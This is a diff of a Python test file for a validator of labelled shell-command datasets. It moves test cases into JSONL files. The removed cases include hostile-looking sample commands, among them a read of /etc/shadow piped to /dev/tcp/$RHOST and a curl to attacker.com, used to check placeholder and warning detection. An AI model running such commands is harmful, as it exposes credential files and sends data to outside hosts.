@@ -18,6 +18,7 @@ from aegish_dist.datasets.table import read_dataset
 from aegish_dist.errors import DatasetError
 from aegish_dist.interchange import verdict_files as verdict_parquet
 from aegish_dist.interchange.verdict_files import read_rows
+from tests.recorded import lines_of
 
 
 def malicious(
@@ -40,81 +41,36 @@ def test_clean_samples_have_no_problems() -> None:
     assert problems([*samples, harmless(metadata={"source": "me"})]) == ()
 
 
+def sample_of(row: dict[str, Any]) -> Sample:
+    return Sample(**{**row, "target": TrueLabel(row["target"])})
+
+
 @pytest.mark.parametrize(
-    ("sample", "field", "message"),
+    ("row", "field", "message"),
     [
-        (malicious(" \n"), "command", "must not be empty"),
-        (malicious("a\0b"), "command", "contains the control character U+0000"),
-        (malicious("a\x1b[31mb"), "command", "contains the control character U+001B"),
-        (malicious("a\rb"), "command", "contains the control character U+000D"),
-        (harmless("a\ud800b"), "command", "contains the control character U+D800"),
-        (harmless("x" * 10_001), "command", "has 10,001 characters, at most 10,000 are allowed"),
-        (harmless(cluster="a\x7f"), "cluster", "contains the control character U+007F"),
-        (harmless(cluster="c" * 201), "cluster", "has 201 characters, at most 200 are allowed"),
-        (harmless(metadata={"k": "\x85"}), "metadata", "contains the control character U+0085"),
-        (malicious(category=None), "category", "a malicious command needs one, such as"),
-        (malicious(category="a,b"), "category", "'a,b' is no name: use up to 100 letters"),
-        (malicious(category="x" * 101), "category", "'" + "x" * 100 + "' is no name"),
-        (malicious(category=" a"), "category", "' a' is no name"),
-        (malicious(category="a\x1b"), "category", "'a\\x1b' is no name"),
-        (harmless(category="shell"), "category", "a harmless command has none; leave it empty"),
+        *lines_of("draft_errors.jsonl"),
+        ({"command": "x" * 10_001, "target": "harmless"}, "command", "has 10,001 characters, at most 10,000 are allowed"),
     ],
-)
-def test_errors(sample: Sample, field: str, message: str) -> None:
-    problem = only([sample])
+)  # fmt: skip
+def test_errors(row: dict[str, Any], field: str, message: str) -> None:
+    problem = only([sample_of(row)])
     assert (problem.severity, problem.record, problem.field) == (Severity.ERROR, 1, field)
     assert problem.message.startswith(message)
 
 
-@pytest.mark.parametrize(
-    ("sample", "field", "message"),
-    [
-        *(
-            (malicious(category=name), "category", f"{name!a} is nearly '")
-            for name in ("File Read", "file_read", "fileread", "SHELL", "downlaod")
-        ),
-        *(
-            (malicious(command), "command", f"placeholder '{left}' was never filled in")
-            for command, left in (
-                ("cat /path/to/input-file", "/path/to/"),
-                ("curl http://attacker.com/x", "attacker.com"),
-                ("tee $TF", "$TF"),
-                ("wget ${URL}", "${URL}"),
-                ("gcore $PID", "$PID"),
-                ("docker cp $CONTAINER_ID:x .", "$CONTAINER_ID"),
-                ("ssh <user>@10.0.0.1", "<user>"),
-                ("LFILE=/etc/shadow\ncat $LFILE >/dev/tcp/$RHOST/1", "$RHOST"),
-            )
-        ),
-        *(
-            (malicious(f"sh /tmp/my_{word}.sh"), "command", f"the word '{word}' gives the label")
-            for word in ("evil", "Backdoor", "malware", "payload", "exploit", "hack")
-        ),
-    ],
-)
-def test_what_is_suspect_is_a_warning(sample: Sample, field: str, message: str) -> None:
-    problem = only([sample])
+@pytest.mark.parametrize(("row", "field", "message"), lines_of("draft_warnings.jsonl"))
+def test_what_is_suspect_is_a_warning(row: dict[str, Any], field: str, message: str) -> None:
+    problem = only([sample_of(row)])
     assert (problem.severity, problem.field) == (Severity.WARNING, field)
     assert problem.message.startswith(message)
 
 
 @pytest.mark.parametrize(
-    "sample",
-    [
-        harmless("cp /path/to/a <name>"),
-        malicious("echo '<name>x</name>'"),
-        malicious("kill $PPID"),
-        malicious("cat <<EOF\nx\nEOF"),
-        malicious("echo $TFA"),
-        malicious("LFILE=/etc/shadow\ncat $LFILE"),
-        malicious("devilspie --shackle"),
-        harmless("x" * 10_000),
-        *(malicious(category=name) for name in ("sudo", "T1059.004", "privilege escalation")),
-        *(malicious(category=name) for name in ("Führung", "x" * 100, "a/b:c+d_e-f")),
-    ],
+    "row",
+    [*lines_of("draft_no_problems.jsonl"), {"command": "x" * 10_000, "target": "harmless"}],
 )
-def test_what_only_looks_like_a_problem(sample: Sample) -> None:
-    assert problems([sample]) == ()
+def test_what_only_looks_like_a_problem(row: dict[str, Any]) -> None:
+    assert problems([sample_of(row)]) == ()
 
 
 def test_duplicate_names_both_lines() -> None:
